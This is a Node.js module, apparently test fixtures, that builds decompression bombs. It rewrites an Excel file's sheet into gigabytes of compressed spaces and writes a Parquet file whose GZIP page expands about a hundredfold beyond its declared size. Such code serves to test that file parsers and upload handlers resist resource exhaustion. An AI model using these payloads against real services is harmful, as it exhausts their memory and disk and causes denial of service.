import { Buffer } from 'node:buffer';
import { constants, deflateRawSync, gzipSync } from 'node:zlib';

/** Small files that hold gigabytes, once they are unpacked. */
export const bombs = { xlsx, parquet };

const pieceBytes = 2 ** 26;
const pieces = 40;

/** The sheet of an Excel file replaced by 2.7 GB of spaces, which take 2.6 MB. */
function xlsx(workbook) {
  const piece = deflateRawSync(Buffer.alloc(pieceBytes, ' '), { finishFlush: constants.Z_SYNC_FLUSH });
  const content = Buffer.concat([...Array(pieces).fill(piece), deflateRawSync(Buffer.alloc(0))]);
  const entries = zipEntries(workbook).map((entry) =>
    entry.name.endsWith('sheet1.xml') ? { ...entry, content, size: pieces * pieceBytes } : entry,
  );
  return writeZip(entries);
}

/** A Parquet file whose page unpacks to a hundred times what it says. */
async function parquet() {
  const { parquetWriteBuffer } = await import('hyparquet-writer');
  const bomb = Buffer.concat(Array(8).fill(gzipSync(Buffer.alloc(pieceBytes))));
  return [
    Buffer.from(
      parquetWriteBuffer({
        columnData: [{ name: 'question', data: ['a', 'b'], type: 'STRING' }],
        codec: 'GZIP',
        compressors: { GZIP: () => bomb },
      }),
    ),
  ];
}

function zipEntries(zip) {
  const entries = [];
  for (let at = zip.indexOf('PK\u0001\u0002'); at >= 0; at = zip.indexOf('PK\u0001\u0002', at + 4)) {
    const local = zip.readUInt32LE(at + 42);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    entries.push({
      name: zip.toString('utf8', at + 46, at + 46 + zip.readUInt16LE(at + 28)),
      method: zip.readUInt16LE(at + 10),
      sum: zip.readUInt32LE(at + 16),
      size: zip.readUInt32LE(at + 24),
      content: zip.subarray(start, start + zip.readUInt32LE(at + 20)),
    });
  }
  return entries;
}

function writeZip(entries) {
  const [locals, directory] = [[], []];
  let offset = 0;
  for (const { name, method, sum, size, content } of entries) {
    const path = Buffer.from(name);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(method, 4);
    fields.writeUInt32LE(sum, 10);
    fields.writeUInt32LE(content.length, 14);
    fields.writeUInt32LE(size, 18);
    fields.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), fields, path, content]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002'), Buffer.from([20, 0]), fields, rest, path]));
    locals.push(local);
    offset += local.length;
  }
  const size = directory.reduce((sum, { length }) => sum + length, 0);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, ...directory, end]);
}
